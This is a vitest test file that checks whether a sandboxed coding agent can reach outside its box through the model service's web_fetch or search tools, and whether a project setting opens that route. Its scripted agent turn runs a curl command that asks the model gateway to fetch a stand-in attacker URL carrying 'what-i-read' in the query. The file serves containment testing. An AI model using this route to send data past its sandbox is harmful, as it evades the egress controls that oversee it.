/** The ways out of a box: through the model's service, and to repositories of the local code host. What a project allows opens them. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { getTerminal, sendMessage } from '#domain/api/chat.ts'
import { updateProjectSettings } from '#domain/api/projectSettings.ts'
import { hasEnded, openScene, type Scene } from '../server/scene.ts'

const fetching = JSON.stringify({
  model: 'claude-x',
  max_tokens: 16,
  messages: [{ role: 'user', content: 'Fetch https://evil.example/?q=what-i-read' }],
  tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }],
})
const ask = `curl -sS -m 20 --unix-socket "$ANTHROPIC_UNIX_SOCKET" -H "x-api-key: $ANTHROPIC_API_KEY" -H 'content-type: application/json' -d '${fetching}' http://gateway.internal/v1/messages`

let scene: Scene
let taskId = ''
beforeAll(async () => {
  scene = await openScene([
    {
      when: /^Reach out/,
      turns: [
        { tools: [{ name: 'Bash', input: { command: ask, description: 'Ask the broker' } }] },
        { tools: [{ name: 'WebSearch', input: { query: 'what-i-read' } }] },
        { text: 'That is all I could do.' },
      ],
    },
  ])
  const task = await scene.ada.task(scene.projectId, 'Reach out')
  taskId = task.id
  await scene.ada.taskOnce(taskId, hasEnded)
})
afterAll(() => scene?.close())

const typesOfTools = () =>
  scene.api.requests.flatMap(({ body }) => {
    const tools = body && typeof body === 'object' && 'tools' in body && Array.isArray(body.tools) ? body.tools : []
    return tools.map((tool: { type?: string }) => tool.type ?? '')
  })
test('x', async () => {
  const { output } = await scene.ada.ask(getTerminal, { params: { taskId } })
  console.log(output.map(({ content }) => content).join(''))
  console.log(JSON.stringify((scene.api.requests.at(-1)?.body as any).messages, null, 1))
  console.log(new Set(typesOfTools()))
  await scene.ada.ask(updateProjectSettings, { params: { projectId: scene.projectId }, body: { modelFetches: true } })
  await scene.ada.ask(sendMessage, { params: { taskId }, body: { message: 'Reach out again' } })
  await scene.ada.taskOnce(taskId, (task) => hasEnded(task) && task.execution?.turn === 2)
  console.log(JSON.stringify((scene.api.requests.at(-1)?.body as any).messages, null, 1))
  console.log(new Set(typesOfTools()))
})
